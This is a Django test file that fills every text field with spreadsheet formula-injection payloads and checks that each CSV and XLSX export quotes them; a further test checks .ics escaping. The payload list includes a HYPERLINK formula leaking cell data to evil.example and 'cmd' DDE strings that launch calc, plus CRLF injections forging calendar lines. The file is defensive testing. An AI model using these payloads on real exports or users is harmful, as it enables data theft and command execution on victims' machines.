"""Every spreadsheet the product writes, with hostile text in every field.

Issue 11, point 3: a meeting's decisions went out as live formulas. The test
enumerates the exports from the URL patterns (any route or name that speaks of
csv/xlsx/export, and every view marked by desk.exports.spreadsheet_view),
puts a formula payload into every text column of every model, downloads each
export in CSV and XLSX and reads every cell back.
"""

import ast
import csv
import datetime
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.core.exceptions import ValidationError
from django.db import IntegrityError, models, transaction
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone

from desk import exports
from desk.models import Agency, Person, Region, Role, RoleAssignment
from desk.scope import Scope
from logistics import services as logistics
from logistics.models import Delivery, Problem
from meetings import services as meetings
from meetings.models import Kind
from neutrality.models import Category, ReferralTarget
from neutrality.reference import ensure_reference_data
from neutrality.services import report_submit
from tests.neutrality.conftest import make_intake

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-SUM(1+1)*cmd|' /C calc'!A0",
    "\t=SUM(1+1)",
    "\r=SUM(1+1)",
)
# What a spreadsheet runs as a formula when a cell begins with it.
LIVE = ("=", "+", "-", "@", "\t", "\r")
# Cells beginning with a sign that are no formula: a number, or a phone
# number in +62… form (digits only: nothing can be called with them).
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
SPREADSHEET_ROUTE = re.compile(r"csv|xlsx|export|ekspor", re.IGNORECASE)
PRODUCT_APPS = ("desk", "meetings", "neutrality", "logistics")

# How to download each export: (persona, URL arguments). A new export fails
# test_every_export_is_known until it is listed here.
CASES = {
    "meetings:decisions_csv": [("desk", {"code": "64"})],
    "meetings:decisions_xlsx": [("desk", {"code": "64"})],
    "neutrality:export": [("officer", {"fmt": "csv"}), ("officer", {"fmt": "xlsx"})],
    "logistics:national_export": [("national", {"fmt": "csv"}), ("national", {"fmt": "xlsx"})],
    "logistics:export": [
        ("logistics", {"code": code, "fmt": fmt})
        for code in ("64", "64.11.01", "VILLAGE")
        for fmt in ("csv", "xlsx")
    ],
}


def url_patterns(patterns=None, prefix="", namespaces=()):
    """(name with namespaces, route, view) of every URL pattern."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            names = (*namespaces, pattern.namespace) if pattern.namespace else namespaces
            yield from url_patterns(pattern.url_patterns, prefix + str(pattern.pattern), names)
        else:
            name = ":".join((*namespaces, pattern.name)) if pattern.name else None
            yield name, prefix + str(pattern.pattern), pattern.callback


def spreadsheet_routes() -> dict[str, object]:
    return {
        name or route: view
        for name, route, view in url_patterns()
        if getattr(view, "writes_spreadsheet", False)
        or SPREADSHEET_ROUTE.search(route)
        or SPREADSHEET_ROUTE.search(name or "")
    }


def test_every_export_is_known():
    """Each URL that looks like a spreadsheet download is made by
    desk.exports (marked) and downloaded below; each marked view has a URL."""
    routes = spreadsheet_routes()
    unmarked = [name for name, view in routes.items() if not hasattr(view, "writes_spreadsheet")]
    assert not unmarked, f"exports not written through desk.exports: {unmarked}"
    assert set(routes) == set(CASES)
    routed = set(routes.values())
    assert all(view in routed for view in exports.VIEWS)


def product_modules():
    for app in PRODUCT_APPS:
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_no_spreadsheet_is_written_outside_desk_exports():
    """One export path: no other module of the product writes CSV or builds
    a workbook itself (reading uploads, csv.reader, is another matter)."""
    writers = {"writer", "DictWriter", "Workbook"}
    found = []
    for path in product_modules():
        if path.name == "exports.py" and path.parent.name == "desk":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in writers:
                found.append(f"{path}:{node.lineno} .{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module in ("csv", "openpyxl"):
                found += [f"{path}:{node.lineno} {a.name}" for a in node.names if a.name in writers]
    assert not found


def test_cell_quotes_formulas_and_keeps_numbers_and_dates():
    assert exports.cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert [exports.cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert exports.cell(-5) == -5 and exports.cell(-2.5) == -2.5
    assert exports.cell(Decimal("-1.50")) == Decimal("-1.50")
    assert exports.cell("-1.5") == "-1.5"
    assert exports.cell("-1+1") == "'-1+1"
    day = datetime.date(2024, 11, 27)
    assert exports.cell(day) is day
    assert exports.cell("+6281234567890") == "+6281234567890"
    assert exports.cell("Rakor desk") == "Rakor desk"
    assert exports.cell(None) is None


def test_xlsx_keeps_numbers_and_dates_and_writes_text_as_text():
    day = datetime.date(2024, 11, 27)
    response = exports.xlsx_response("x.xlsx", ("s", ["a", "b", "c"], [[-5, day, PAYLOADS[0]]]))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    values = [c.value for c in next(book.active.iter_rows(min_row=2))]
    assert values == [-5, datetime.datetime(2024, 11, 27), "'" + PAYLOADS[0]]
    assert xlsx_cells(response.content)


def fill_every_text_field():
    """A payload in every free-text column of every model of the product
    (and the users' names): codes and choices stay what the code needs."""
    user_model = apps.get_model(settings.AUTH_USER_MODEL)
    targets = [m for app in PRODUCT_APPS for m in apps.get_app_config(app).get_models()]
    filled = 0
    for model in [*targets, user_model]:
        for index, field in enumerate(model._meta.concrete_fields):
            if (
                not isinstance(field, models.CharField | models.TextField)
                or field.primary_key
                or field.choices
                or (model is user_model and field.name in ("username", "password"))
            ):
                continue
            payload = PAYLOADS[index % len(PAYLOADS)]
            limit = field.max_length or 500
            unique = field.unique or any(
                field.name in getattr(constraint, "fields", ())
                for constraint in model._meta.constraints
                if isinstance(constraint, models.UniqueConstraint)
            )
            try:
                # A check constraint that refuses the payload (a URL must
                # start with http) means no such text can be exported.
                with transaction.atomic():
                    if unique:
                        for pk in model.objects.values_list("pk", flat=True):
                            value = f"{payload[: limit - 12]}#{pk}"
                            model.objects.filter(pk=pk).update(**{field.name: value})
                    else:
                        model.objects.update(**{field.name: payload[:limit]})
            except (IntegrityError, ValidationError):
                # ... and an append-only history refuses any change.
                continue
            filled += 1
    return filled


@pytest.fixture
def hostile_product(make_user):
    """A decision of the Kaltim desk following up a logistics problem, a
    neutrality report of the Pamekasan office, logistics progress in
    Mahakam Ulu; then a payload in every text field."""
    ensure_reference_data(Category, ReferralTarget)
    kaltim = Region.objects.get(code="64")
    agency = Agency.objects.create(region=kaltim, kind=Agency.Kind.OPD, name="Dishub Kaltim")
    person = Person.objects.create(agency=agency, name="Dewi", position="Sekda")
    desk = make_user(Role.DESK_STAFF, "64")
    villages = list(
        Region.objects.filter(code__startswith="64.11.01.", level="village")
        .order_by("code")
        .values_list("code", flat=True)[:3]
    )
    officer_64 = make_user(Role.LOGISTICS_OFFICER, "64")
    logistics.villages_set_counts(dict.fromkeys(villages, (2, 500, 500)))
    rows = [
        (line, d.village_id, d.item.code, 4, d.required, d.required, 1, "")
        for line, d in enumerate(
            Delivery.objects.filter(village_id__in=villages).select_related("item"), start=2
        )
    ]
    logistics.deliveries_update(rows, user=None, scope=Scope(True, ()), source="form")
    problem = logistics.problem_report(
        user=officer_64,
        region=Region.objects.get(code=villages[0]),
        kind=Problem.Kind.SHORTAGE,
        description="Kurang",
    )
    starts = timezone.now() - datetime.timedelta(days=1)
    meeting = meetings.meeting_schedule(
        user=desk,
        region=kaltim,
        title="Rakor",
        kind=Kind.DESK,
        starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=2),
        venue="Kantor",
        agenda="Logistik",
        people=[person],
    )
    meetings.decision_record(
        meeting=meeting,
        user=desk,
        text="Kirim ulang",
        responsible_agency=agency,
        responsible_person=person,
        due_on=timezone.localdate() + datetime.timedelta(days=3),
        problem=problem,
    )
    office = Agency.objects.create(
        region=Region.objects.get(code="35.28"), kind=Agency.Kind.BAWASLU, name="Bawaslu"
    )
    officer = make_user()
    RoleAssignment.objects.create(
        user=officer, role=Role.BAWASLU_OFFICER, region=office.region, agency=office
    )
    report_submit(intake=make_intake(), channel="public", files=(), links=(), user=None)
    assert fill_every_text_field() > 40
    return {
        "desk": desk,
        "officer": officer,
        "logistics": officer_64,
        "national": make_user(Role.LOGISTICS_OFFICER, None),
        "village": villages[0],
    }


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
    return [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


def xlsx_cells(content: bytes) -> list:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def is_live(value) -> bool:
    return isinstance(value, str) and value.startswith(LIVE) and not NUMBER.fullmatch(value)


def test_no_export_carries_a_live_formula(client, hostile_product):
    downloads = 0
    for name, cases in CASES.items():
        for persona, kwargs in cases:
            kwargs = {
                k: hostile_product["village"] if v == "VILLAGE" else v for k, v in kwargs.items()
            }
            client.force_login(hostile_product[persona])
            response = client.get(reverse(name, kwargs=kwargs))
            assert response.status_code == 200, (name, kwargs)
            is_xlsx = response["Content-Type"] == exports.XLSX_TYPE
            content = response.content
            cells = xlsx_cells(content) if is_xlsx else csv_cells(content)
            live = [value for value in cells if is_live(value)]
            assert not live, (name, kwargs, live[:5])
            # The payloads did reach the file, quoted.
            quoted = [
                v for v in cells if isinstance(v, str) and v.startswith("'") and is_live(v[1:])
            ]
            assert quoted, (name, kwargs)
            downloads += 1
    assert downloads == sum(len(cases) for cases in CASES.values())


def test_calendar_text_cannot_add_lines(client, make_user):
    """The .ics download and the feed are no spreadsheet, but text there
    must not start a property or an event of its own: icalendar escapes
    line breaks, ``;`` and ``,`` in text values."""
    kaltim = Region.objects.get(code="64")
    desk = make_user(Role.DESK_STAFF, "64")
    starts = timezone.now() + datetime.timedelta(days=1)
    meeting = meetings.meeting_schedule(
        user=desk,
        region=kaltim,
        title="Rakor\r\nATTENDEE:mailto:evil@example.org",
        kind=Kind.DESK,
        starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=2),
        venue="Kantor\nEND:VEVENT\nBEGIN:VEVENT",
        agenda="Satu\r\nDTSTART:20000101T000000Z",
    )
    client.force_login(desk)
    body = client.get(reverse("meetings:meeting_ics", args=[meeting.pk])).content.decode()
    lines = body.split("\r\n")
    assert lines.count("BEGIN:VEVENT") == 1
    assert not [line for line in lines if line.startswith(("ATTENDEE", "DTSTART:2000"))]
    assert "SUMMARY:Rakor\\nATTENDEE:mailto:evil@example.org" in lines
